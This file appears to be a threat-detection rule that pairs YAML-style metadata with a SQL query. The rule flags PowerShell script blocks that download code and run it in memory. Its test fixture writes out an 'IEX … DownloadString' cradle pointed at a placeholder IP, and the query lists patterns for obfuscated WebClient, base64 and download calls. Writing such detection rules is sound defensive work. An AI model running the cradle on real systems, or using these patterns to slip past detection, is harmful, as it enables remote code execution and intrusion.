/*---
id: f17acfd6-6af5-4ba9-9bf5-d38f5ed7a083
title: PowerShell fetches and runs code from the network
description: >-
  A script block uses a web client to fetch text or bytes and runs them without a file, or loads an object
  that does so.
status: test
level: high
tags: [attack.execution, attack.t1059.001, attack.command-and-control, attack.t1105]
author: Noroshi project
date: "2026-11-23"
falsepositives:
  - Installers that are offered as one line of PowerShell.
entity: [Computer]
tests:
  - name: 'a cradle, a download to a file'
    given:
      - {EventID: 4104, Computer: 'ws1', ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.77/a'')'}
      - {EventID: 4104, Computer: 'ws2', ScriptBlockText: 'Invoke-WebRequest -Uri https://updates.example/pkg.msi -OutFile C:\Temp\pkg.msi'}
    expect:
      - {Computer: 'ws1'}
---*/
SELECT Computer, User, EventID, ScriptBlockText, Payload, Path
FROM   script_activity
WHERE  EventID = 4104
  AND  ((ScriptBlockText ~* '(iex|invoke-expression)' AND ScriptBlockText ~* '(downloadstring|downloaddata|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b)')
     OR (ScriptBlockText ~* 'n[`''+ ]*e[`''+ ]*t\.[`]?w[`]?e[`]?b[`]?c[`]?l[`]?i[`]?e[`]?n[`]?t' AND ScriptBlockText ~* '(frombase64string|downloadstring|downloaddata|openread)'))
